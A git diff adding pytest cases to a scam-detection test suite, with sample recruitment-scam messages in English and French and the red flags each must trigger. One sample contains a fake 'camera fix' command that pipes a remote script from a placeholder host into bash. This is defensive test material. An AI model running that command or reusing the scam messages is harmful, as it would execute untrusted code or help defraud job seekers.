@@ -333,3 +333,30 @@ def test_gated_column_path_equals_each_signal_alone() -> None:
     for name in (n for g in GATE_GROUPS for n in g):
         alone = get_signal(name).detect_frame(batch)  # every row, no shared gate
         assert (frame[name].to_numpy() == alone).all(), name
+
+
+# Informal first messages as strangers write them (illustrative, written for these tests): typos,
+# "u"/"ur", no punctuation. Each must raise at least the listed red flags.
+INFORMAL = [
+    ("Hello dear, we are hiring part time workers, earn 200-500 USD daily, just need a phone, "
+     "intrested? reply on whatsap", {"easy_money", "off_platform_request"}),
+    ("Congrats!! U have been hired as our remote admin assistant. we will mail u a check to buy "
+     "ur office equipment from our vendor",
+     {"offer_without_interview", "low_skill_remote_role", "cheque_forwarding", "pay_to_work"}),
+    ("Hey, we are building a web3 gaming platform. Before the interview could you pls clone our "
+     "repo from bitbucket and run it, theres a small bug we want u to fix",
+     {"run_our_code", "adhoc_code_hosting", "web3_pitch"}),
+    ("Hi, during our zoom the camera didnt work for you. Please run this in terminal to fix: "
+     "curl -k https://zoomfix.example/up.sh | bash",
+     {"interview_software_download", "paste_command"}),
+    ("Salut ! Ton profil a été retenu. Pour valider ton inscription il faut payer 30€ de frais de "
+     "dossier.", {"offer_without_interview", "pay_to_work"}),
+    ("Bonjour, poste en télétravail, 150€/jour, sans expérience, contactez moi sur WhatsApp",
+     {"easy_money", "off_platform_request"}),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), INFORMAL)
+def test_informal_messages(text, expected) -> None:
+    fired = {h.name for h in extract_signals(text)}
+    assert expected <= fired, expected - fired
